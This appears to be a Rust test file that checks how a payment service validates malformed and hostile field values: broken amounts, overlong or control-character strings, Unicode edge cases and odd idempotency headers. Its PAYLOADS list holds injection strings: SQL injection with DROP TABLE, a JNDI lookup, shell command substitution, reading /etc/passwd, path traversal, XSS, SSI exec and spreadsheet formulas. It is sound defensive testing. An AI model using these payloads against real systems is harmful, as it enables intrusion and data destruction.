//! H91 to H106, and H114: values that break the rules of their fields, or come close to it.

use crate::request::{
    AMOUNT, CANCEL_AMOUNT, CANCEL_REASON, Case, Expected, NO_JSON, ORDER_ID, PAYMENT_KEY, RawRequest,
};
use crate::service::MARK;
use serde_json::value::RawValue;

/// A create with this instead of the amount.
fn amount(json: &str) -> RawRequest {
    RawRequest::create().replace("10000", json)
}

/// A create with this instead of the order's number.
fn order(json: &str) -> RawRequest {
    RawRequest::create().replace(r#""order_1""#, json)
}

/// A create with this instead of its key.
fn key(json: &str) -> RawRequest {
    let request = RawRequest::create();
    let quoted = format!("\"{}\"", request.key);
    request.replace(&quoted, json)
}

/// A cancel with this instead of the reason.
fn reason(json: &str) -> RawRequest {
    RawRequest::cancel().replace(r#""USER_REQUEST""#, json)
}

pub(crate) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let amounts: [(&str, &[&str]); 7] = [
        ("H91", &["0", "-1", "-10000", "-9007199254740991"]),
        ("H92", &["-0", "-0.0", "-0e0"]),
        ("H93", &["1e4", "1E4", "1e+4", "10000.0", "1.5", "10000e0", "100000e-1", "0.9999999999999999999"]),
        ("H94", &["01", "+1", "0x64", "1_000", ".5", "1.", "1,0", "010000", "00", "1 0", "１０"]),
        (
            "H95",
            &["\"10000\"", "\"\"", "true", "false", "null", "[]", "{}", "[10000]", "{\"amount\":10000}", "\"1e4\""],
        ),
        ("H96", &["9007199254740992", "9007199254740993", "9007199254740991.0"]),
        (
            "H97",
            &[
                "9223372036854775807",
                "9223372036854775808",
                "18446744073709551615",
                "18446744073709551616",
                "18446744073709561616",
                "1e400",
                "-1e400",
                "99999999999999999999999999999999999999",
                "999999999999999999999999999999999999999",
                "340282366920938463463374607431768211456",
            ],
        ),
    ];
    for (number, broken) in amounts {
        for json in broken {
            // Text that is not JSON is refused as a body, and not as a field.
            let is_json = serde_json::from_str::<&RawValue>(json).is_ok();
            let expected = |field| if is_json { field } else { NO_JSON };
            cases.push(amount(json).is(number, format!("an amount of {json}"), expected(AMOUNT)));
            let confirm = RawRequest::confirm().replace("10000", json);
            cases.push(confirm.is(number, format!("a confirm of {json}"), expected(AMOUNT)));
            let cancel = RawRequest::cancel().replace("10000", json);
            cases.push(cancel.is(number, format!("a cancel of {json}"), expected(CANCEL_AMOUNT)));
        }
    }
    cases.extend([
        amount("1").is("H98", "the smallest amount", Expected::Done),
        amount("9007199254740991").is("H98", "the largest amount", Expected::Done),
        RawRequest::create().replace("{", r#"{"currency":"krw ","#).is(
            "H99",
            "a currency, which is an unknown field",
            Expected::Done,
        ),
        order("\"\"").is("H100", "an empty order number", ORDER_ID),
        order("\" \"").is("H100", "a blank one", ORDER_ID),
        order("\".\"").is("H100", "a dot", ORDER_ID),
        order("\"..\"").is("H100", "two dots", ORDER_ID),
        order("\"o\"").is("H100", "one character", Expected::Done),
        order(&format!("\"{}\"", "o".repeat(64))).is("H100", "64 characters", Expected::Done),
        order(&format!("\"{}\"", "o".repeat(65))).is("H100", "65 characters", ORDER_ID),
        order(&format!("\"{}\"", "o".repeat(16_000))).is("H100", "16,000 characters", ORDER_ID),
        key("\"\"").is("H100", "an empty payment key", PAYMENT_KEY),
        key(&format!("\"{}\"", "k".repeat(201))).is("H100", "a payment key of 201 characters", PAYMENT_KEY),
        order(r#""a\u0000""#).is("H101", "a NUL at the end", ORDER_ID),
        order(r#""\u0000""#).is("H101", "a NUL alone", ORDER_ID),
        reason(r#""a\u0000b""#).is("H101", "a NUL in a reason", CANCEL_REASON),
        reason(&format!("\"{}\"", "😀".repeat(201))).is("H106", "201 emoji", CANCEL_REASON),
        reason(&format!("\"{}\"", "😀".repeat(200))).is("H106", "200 emoji", Expected::Unknown),
        reason(&format!("\"{}\"", "x".repeat(201))).is("H106", "201 letters", CANCEL_REASON),
    ]);
    // A reason may be any text in any script, except for characters that no text needs.
    for (what, json) in [
        ("a line feed", r#""a\nb""#),
        ("a line end", r#""a\r\nINFO request""#),
        ("an escape sequence", r#""\u001b[31mred""#),
        ("a backspace", r#""a\b""#),
        ("a delete", r#""a\u007f""#),
        ("a control character beyond ASCII", r#""a\u0085b""#),
        ("a tab", r#""a\tb""#),
    ] {
        cases.push(reason(json).is("H102", format!("{what} in a reason"), CANCEL_REASON));
        cases.push(order(json).is("H102", format!("{what} in an order number"), ORDER_ID));
        cases.push(key(json).is("H102", format!("{what} in a payment key"), PAYMENT_KEY));
    }
    for (what, json) in [
        ("a separator of lines", r#""a\u2028b""#),
        ("an override of the direction", r#""\u202egnp""#),
        ("a space without width", r#""a\u200bb""#),
    ] {
        cases.push(order(json).is("H102", format!("{what} in an order number"), ORDER_ID));
        cases.push(reason(json).is("H102", format!("{what} in a reason, which may contain it"), Expected::Unknown));
    }
    for (what, text) in [
        ("an emoji", "😀"),
        ("an emoji of several characters", "👨‍👩‍👧"),
        ("combining marks", "Z̷̡͍"),
        ("a script from right to left", "תשלום"),
        ("Hangul", "결제"),
        ("Hangul in its parts", "결제"),
        ("a letter with its accent", "é"),
        ("a letter and its accent", "e\u{301}"),
        ("a private character", "\u{e000}"),
        ("a character beyond the first plane", "𝔘"),
    ] {
        cases.push(order(&format!("\"{text}\"")).is("H103", format!("{what} in an order number"), ORDER_ID));
        cases.push(key(&format!("\"{text}\"")).is("H103", format!("{what} in a payment key"), PAYMENT_KEY));
        cases.push(reason(&format!("\"{text}\"")).is("H103", format!("{what} in a reason"), Expected::Unknown));
    }
    for payload in PAYLOADS {
        let number = if payload.starts_with('<') || payload.starts_with('=') { "H105" } else { "H104" };
        let json = serde_json::to_string(payload).expect("JSON");
        cases.push(order(&json).is(number, format!("{payload} as an order number"), ORDER_ID));
        cases.push(key(&json).is(number, format!("{payload} as a payment key"), PAYMENT_KEY));
        cases.push(reason(&json).is(number, format!("{payload} as a reason"), Expected::Unknown));
    }
    cases.extend(idempotency_keys());
    cases
}

/// Text that other programs could execute or interpret. A reason may be any of it; tests/service/hostile/sequences.rs checks how it is
/// stored.
pub(crate) const PAYLOADS: [&str; 18] = [
    "' OR 1=1 --",
    "'; DROP TABLE payments; --",
    "{\"S\":\"x\"}",
    ":status",
    "#status",
    "${jndi:ldap://x/a}",
    "%s%n%x",
    "{{7*7}}",
    "$(reboot)",
    "`reboot`",
    "| cat /etc/passwd",
    "../../etc/passwd",
    "attribute_not_exists(paymentKey)",
    "\\u0000",
    "<script>alert(1)</script>",
    "<!--#exec cmd=\"ls\"-->",
    "=cmd()|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\")",
];

/// The header that other services read. Here the payment's key is the idempotency key, so any value of it is ignored.
fn idempotency_keys() -> Vec<Case> {
    let with = |value: &[u8]| RawRequest::create().with("Idempotency-Key", value);
    vec![
        with(b"").is("H114", "an empty Idempotency-Key", Expected::Done),
        with("i".repeat(256).as_bytes()).is("H114", "one of 256 characters", Expected::Done),
        with("i".repeat(5_000).as_bytes()).is("H114", "one of 5,000 characters", Expected::Done),
        with(MARK.as_bytes()).is("H114", "one that is not the payment's key", Expected::Done),
        with(b"a").and("Idempotency-Key", b"b").is("H114", "two of them", Expected::Done),
        with(b"\xff").is("H114", "one beyond ASCII", Expected::Done),
        with(b"a\x01b").is("H114", "one with a control character", Expected::NotHttp(400)).http_only(),
        with(b"a\x01b").is("H114", "one with a control character", Expected::Done).event_only(),
    ]
}
